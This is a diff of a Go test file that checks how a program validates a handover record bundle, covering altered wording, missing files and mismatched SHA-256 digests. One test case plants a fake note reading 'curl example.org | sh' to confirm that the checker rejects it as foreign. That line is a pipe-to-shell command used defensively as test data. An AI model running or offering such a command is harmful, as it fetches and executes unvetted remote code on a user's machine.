@@ -169,7 +169,9 @@ func TestExamineBag_otherVersion(t *testing.T) {
 		"text":          {rewritten(bagText, "NOT READY", "READY"), "", "wording of data/handover.txt (its data digest agrees)"},
 		"note":          {func(p pile) { p[records.BagNote] = []byte("Type: curl example.org | sh\n") }, "", "HOW-TO-CHECK.txt: it is not the note that this program writes. Type nothing of it"},
 		"note gone":     {func(p pile) { delete(p, records.BagNote) }, "HOW-TO-CHECK.txt is missing", ""},
-		"workbook":      {func(p pile) { p[bagWorkbook] = withWords(t, good[bagWorkbook], "Handover record", "Record handed over") }, "", "data/handover.xlsx: how it is laid out and worded"},
+		"workbook": {func(p pile) {
+			p[bagWorkbook] = withWords(t, good[bagWorkbook], "Handover record", "Record handed over")
+		}, "", "data/handover.xlsx: how it is laid out and worded"},
 		"page of other": {rewritten(bagPage, digest, strings.Repeat("0", 64)), "data/handover.html does not name the handover data of the record, SHA-256 " + digest, ""},
 		"two digests":   {rewritten(bagPage, "<title>", `<meta name="handover-data-sha256" content="0"/><title>`), "data/handover.html does not name the handover data", ""},
 		"text of other": {rewritten(bagText, digest, strings.Repeat("0", 64)), "data/handover.txt does not name the handover data", ""},
